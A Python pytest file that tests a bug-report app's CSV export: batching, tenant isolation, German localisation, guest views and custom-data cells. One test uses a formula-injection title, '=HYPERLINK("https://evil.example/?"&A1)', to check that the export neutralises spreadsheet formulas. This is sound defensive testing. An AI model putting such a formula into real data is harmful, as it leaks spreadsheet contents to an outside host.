"""The reports list as a CSV file (`/ui/reports.csv`): every report its filters match, over as many batches as it
takes, in the reader's words, within their organization and view, and safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
import re
import secrets
from typing import Any

import pytest

from app.ui import export
from tests.support.admin_ui import report
from tests.support.clients import WIDGET_METADATA, ApiClient, TenantFactory


def rows_of(answer: Any, delimiter: str = ",") -> list[list[str]]:
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.text.startswith("\ufeff")  # spreadsheet programs tell UTF-8 by it
    return list(csv.reader(io.StringIO(answer.text.removeprefix("\ufeff")), delimiter=delimiter))


async def test_the_file_holds_every_report_the_filters_match_in_the_lists_order(
    tenants: TenantFactory, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "EXPORT_BATCH", 2)  # five reports: three batches
    async with tenants.create() as tenant, tenants.create("Globex") as other:
        shop = await tenant.create_project("Shop", trackingPrefix="SHP")
        for number in range(5):
            await report(tenant.client, shop["apiKey"], f"Checkout fails {number}", severity="critical")
        await report(tenant.client, shop["apiKey"], "The logo is blurry", severity="low")
        theirs = await other.create_project("Theirs")
        await report(other.client, theirs["apiKey"], "Globex's secret", severity="critical")
        answer = await tenant.client.get("/ui/reports.csv", params={"severity": "critical", "sort": "createdAt"})
        rows = rows_of(answer)
        assert answer.headers["content-disposition"].startswith('attachment; filename="')
        assert rows[0] == [
            "ID",
            "Title",
            "Project",
            "Status",
            "Severity",
            "Priority",
            "Category",
            "Assignee",
            "Reporter",
            "Tags",
            "Page",
            "Created",
            "Updated",
            "Link",
            "Custom data",
        ]
        assert [row[1] for row in rows[1:]] == [f"Checkout fails {number}" for number in range(5)]
        assert {(row[2], row[3], row[4]) for row in rows[1:]} == {("Shop", "New", "Critical")}
        assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\+00:00", rows[1][11])  # ISO 8601, to the second, UTC


async def test_a_formula_in_a_title_is_text_and_the_words_are_the_readers(tenants: TenantFactory) -> None:
    """A reporter's title could run in the reader's spreadsheet: `=HYPERLINK(...)` stays text."""
    async with tenants.create() as tenant:
        shop = await tenant.create_project("Shop", trackingPrefix="SHP")
        formula = await report(tenant.client, shop["apiKey"], '=HYPERLINK("https://evil.example/?"&A1)')
        tagged = await tenant.client.patch(f"/api/v1/reports/{formula['id']}", json={"tags": ["結帳"]})
        assert tagged.status_code == 200, tagged.text
        await report(tenant.client, shop["apiKey"], "-1 item in the cart", severity="high")
        # German spreadsheets write 1,5 for one and a half, and split lines at semicolons.
        rows = rows_of(await tenant.client.get("/ui/reports.csv", params={"lang": "de"}), delimiter=";")
        assert rows[0][:5] == ["ID", "Titel", "Projekt", "Status", "Schweregrad"]
        assert [row[1] for row in rows[1:]] == ["'-1 item in the cart", '\'=HYPERLINK("https://evil.example/?"&A1)']
        assert rows[1][4] == "Hoch"
        assert rows[2][9] == "結帳"


async def test_a_guest_gets_their_view_without_the_teams_people(
    tenants: TenantFactory, anonymous: ApiClient, app: Any
) -> None:
    async with tenants.create() as tenant:
        shop = await tenant.create_project("Shop", trackingPrefix="SHP")
        client_email = f"client-{secrets.token_hex(4)}@example.com"  # accounts are the instance's, not a test's
        invited = await tenant.client.post(
            "/api/v1/organization/members", json={"email": client_email, "role": "guest"}
        )
        member = invited.json()["data"]
        added = await tenant.client.post(
            f"/api/v1/projects/{shop['id']}/members", json={"userId": member["member"]["userId"]}
        )
        assert added.status_code == 201, added.text
        theirs = {
            "title": "Sent by the client",
            "reporterEmail": client_email,
            "metadata": WIDGET_METADATA,
        }
        assert (
            await anonymous.post("/api/v1/widget/submit", json=theirs, headers={"X-API-Key": shop["apiKey"]})
        ).is_success
        await report(tenant.client, shop["apiKey"], "Someone else's report")
        async with ApiClient.for_app(app) as guest:
            accepted = await guest.post(
                "/api/v1/auth/invitations/accept",
                json={"token": member["invitationToken"], "password": "a long password!"},
            )
            assert accepted.status_code == 200, accepted.text
            rows = rows_of(await guest.get("/ui/reports.csv"))
        assert "Assignee" not in rows[0]
        assert "Reporter" not in rows[0]
        assert [row[1] for row in rows[1:]] == ["Sent by the client"]


async def test_the_pages_custom_data_is_one_cell_of_json_per_report(
    tenants: TenantFactory, anonymous: ApiClient
) -> None:
    """What the embedding page set with `Lantern.setCustomData` (a plan, an order number) was left out of the file.
    It is one cell per report, whatever keys each has, and a value that is a formula stays text inside it."""
    custom = {"plan": "pro", "orderId": 1234, "beta": True, "ratio": 0.5, "購入": "結帳", "note": "=1+1"}
    async with tenants.create() as tenant:
        shop = await tenant.create_project("Shop", trackingPrefix="SHP")
        for title, metadata in (
            ("With custom data", {**WIDGET_METADATA, "custom": custom}),
            ("Without custom data", WIDGET_METADATA),
        ):
            sent = await anonymous.post(
                "/api/v1/widget/submit",
                json={"title": title, "metadata": metadata},
                headers={"X-API-Key": shop["apiKey"]},
            )
            assert sent.status_code == 201, sent.text
        rows = rows_of(await tenant.client.get("/ui/reports.csv", params={"sort": "createdAt", "lang": "de"}), ";")
        column = rows[0].index("Benutzerdefinierte Daten")
        (with_custom, without) = rows[1:]
        assert with_custom[1] == "With custom data"
        # Compact, its keys in order (as the report's page lists them), its text as written.
        assert with_custom[column] == (
            '{"beta":true,"note":"=1+1","orderId":1234,"plan":"pro","ratio":0.5,"購入":"結帳"}'
        )
        assert json.loads(with_custom[column]) == custom
        assert without[column] == ""
